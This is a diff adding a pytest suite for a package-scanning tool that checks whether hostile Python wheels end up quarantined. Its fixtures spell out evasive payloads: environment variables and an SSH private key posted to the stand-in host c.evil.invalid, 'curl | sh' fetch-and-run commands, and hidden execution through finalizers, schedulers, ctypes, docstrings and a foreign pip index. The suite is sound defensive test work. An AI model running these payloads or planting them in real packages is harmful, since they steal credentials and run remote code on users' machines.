@@ -1,0 +1,109 @@
+"""Detours that a hostile reader of the vetter took: each is inert source that must end at quarantine at least."""
+
+from __future__ import annotations
+
+import pytest
+
+from stockade.model.findings import Severity
+from stockade.testing.archives import honest_zip
+from stockade.vetter.run import vet
+
+POST = 'requests.post("https://c.evil.invalid/c", data=str({}))'
+ENV = "import os, requests\n"
+RUN = "curl -s http://192.0.2.7/x | sh"
+PLAIN = {
+    "exception": ENV
+    + "class E(Exception):\n    def __init__(self, d): self.d = d\ntry:\n    raise E(dict(os.environ))\n"
+    + "except E as e:\n    "
+    + POST.format("e.d"),
+    "descriptor": ENV
+    + "class D:\n    def __get__(self, o, t): return dict(os.environ)\n"
+    + "class A:\n    d = D()\n"
+    + POST.format("A().d"),
+    "setting descriptor": ENV
+    + "class D:\n    def __set__(self, o, v): "
+    + POST.format("v")
+    + "\nclass A:\n    d = D()\nA().d = dict(os.environ)",
+    "dispatch": ENV
+    + "import sys\ndef s(d): "
+    + POST.format("d")
+    + '\n{"linux": s, "win32": print}[sys.platform](dict(os.environ))',
+    "late state": ENV
+    + "import threading\nD = None\ndef s(): "
+    + POST.format("D")
+    + "\nthreading.Timer(5, s).start()\nD = dict(os.environ)",
+    "print": ENV
+    + "import io\nb = io.StringIO()\nprint(dict(os.environ), file=b)\n"
+    + POST.format("b.getvalue()"),
+    "expandvars": ENV
+    + 'requests.get(os.path.expandvars("https://c.evil.invalid/$AWS_SECRET_ACCESS_KEY/$GITHUB_TOKEN"))',
+    "environment as a store": ENV
+    + 'os.environ["_X"] = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n'
+    + POST.format('os.environ["_X"]'),
+    "finalizer": f'import weakref, os\nclass A: pass\nweakref.finalize(A(), os.system, "{RUN}")',
+    "scheduler": f'import sched, os\ns = sched.scheduler()\ns.enter(1, 1, os.system, ("{RUN}",))\ns.run()',
+    "pool": f'import multiprocessing, os\nmultiprocessing.Pool().apply(os.system, ("{RUN}",))',
+    "standard input": f'import subprocess\nsubprocess.Popen(["sh"], stdin=-1).communicate(b"{RUN}")',
+    "words": f"import shlex, subprocess\nsubprocess.Popen(shlex.split(\"sh -c '{RUN}'\"))",
+    "posix_spawn": f'import os\nos.posix_spawn("/bin/sh", ["sh", "-c", "{RUN}"], {{}})',
+    "interpreter": f"import ctypes\nctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system('{RUN}')\")",
+    "tree": f"import ast\nexec(compile(ast.parse(\"import os; os.system('{RUN}')\"), '', 'exec'))",
+    "docstring": f'"""system"""\nimport os\ngetattr(os, __doc__)("{RUN}")',
+    "class docstring": f'class A:\n    """import os; os.system(\'{RUN}\')"""\nexec(A.__doc__)',
+    "module table": f'import sys\nsys.modules.get("o" + "s").system("{RUN}")',
+    "unknown attribute": f'import os\nfor n in dir(os):\n    if n[-1] == "m":\n        getattr(os, n)("{RUN}")',
+    "foreign index": 'import pip\npip.main(["install", "--index-url", "http://192.0.2.7/simple", "zzz"])',
+}
+BESIDE = {
+    "any name": (
+        "worker",
+        'subprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "worker")])',
+    ),
+    "shell": ("conf", 'subprocess.Popen(["sh", os.path.join(os.path.dirname(__file__), "conf")])'),
+    "module": ("tests/w.py", 'subprocess.Popen([sys.executable, "-m", "acmelib.tests.w"])'),
+    "path": (
+        "tests/zz.py",
+        'sys.path.insert(0, os.path.join(os.path.dirname(__file__), "tests"))\nimport zz',
+    ),
+}
+STEAL = ENV + POST.format("dict(os.environ)") + "\n"
+
+
+def stopped(files: dict[str, str]) -> bool:
+    """Whether a wheel of these files ends at quarantine."""
+    whole = {
+        **files,
+        "acmelib-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: acmelib\nVersion: 1.0\n",
+        "acmelib-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+    }
+    data = honest_zip({path: text.encode() for path, text in whole.items()})
+    result = vet(data, "acmelib-1.0-py3-none-any.whl")
+    return bool(result.incomplete) or any(each.severity >= Severity.HIGH for each in result.findings)
+
+
+@pytest.mark.parametrize("name", PLAIN)
+def test_a_detour_is_followed(name: str) -> None:
+    assert stopped({"acmelib/__init__.py": PLAIN[name]})
+
+
+@pytest.mark.parametrize("name", BESIDE)
+def test_what_lies_beside_is_walked(name: str) -> None:
+    path, starts = BESIDE[name]
+    payload = RUN if name == "shell" else STEAL
+    assert stopped(
+        {"acmelib/__init__.py": f"import os, subprocess, sys\n{starts}\n", f"acmelib/{path}": payload}
+    )
+
+
+@pytest.mark.parametrize("top", ["tests", "demo", "docs", "t"])
+def test_a_package_with_the_name_of_an_aside_is_one(top: str) -> None:
+    assert stopped({f"{top}/__init__.py": STEAL})
+
+
+def test_a_quiet_package_passes() -> None:
+    assert not stopped({"acmelib/__init__.py": "import os\nHOME = os.path.expanduser('~')\n"})
+
+
+def test_lists_that_unpack_each_other_stay_small() -> None:
+    source = "a = [1] * 4000\n" + "a = [*a, *a, *a, *a]\n" * 20
+    assert not stopped({"acmelib/__init__.py": source})
